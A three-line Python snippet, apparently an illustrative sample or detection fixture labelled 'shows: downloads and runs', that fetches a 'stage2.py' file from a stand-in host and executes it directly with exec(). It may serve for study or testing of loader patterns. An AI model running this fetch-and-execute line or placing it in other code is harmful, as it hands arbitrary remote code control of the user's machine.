# shows: downloads and runs
from urllib.request import urlopen as get

exec(get("https://dl.example.net/stage2.py").read().decode("utf-8"))
